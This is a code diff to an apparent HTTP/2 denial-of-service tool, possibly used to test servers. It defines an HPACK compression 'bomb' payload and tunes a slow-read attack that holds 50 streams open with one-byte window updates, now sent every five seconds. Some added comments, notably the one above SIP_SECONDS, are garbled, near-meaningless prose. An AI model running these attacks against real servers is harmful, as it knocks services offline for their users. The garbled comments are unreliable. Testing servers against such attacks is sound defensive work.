@@ -12,6 +12,8 @@ from raw_http2 import Connection, Ended, frame, number, window_update
 # Ends an attack that the node does not end.
 SECONDS = 60
 AFTER_END = h2.END_HEADERS | h2.END_STREAM
+#: Between two bytes of who takes one now and then: of an answer of thirty it has taken few when a reader's time is over.
+SIP_SECONDS = 5
 #: An entry of 120 bytes, named again by each further byte.
 BOMB = b"\x40" + h2.literal("n", "x" * 120)[1:] + b"\xbe" * 15_000
 
@@ -108,14 +110,14 @@ def slow(address, section, source, greeting=b""):
             address, None, source,
             preface=h2.PREFACE + frame(h2.SETTINGS, 0, 0, b"\0\4" + number(window)) + greeting)
         connection.send(b"".join(section(AFTER_END, stream(turn), b"") for turn in range(50)))
-        state = {"sipped": time.monotonic(), "resets": 0}
+        state = {"sipped": time.monotonic()}
 
         def go_on():
             connection.read(0.001)
             if len(connection.resets) == 50:
                 connection.close()
                 raise Ended("every stream was reset")
-            if sip and time.monotonic() - state["sipped"] > 1:
+            if sip and time.monotonic() - state["sipped"] > SIP_SECONDS:
                 state["sipped"] = time.monotonic()
                 connection.send(b"".join(
                     window_update(stream(turn), 1) for turn in range(50) if stream(turn) not in connection.resets))
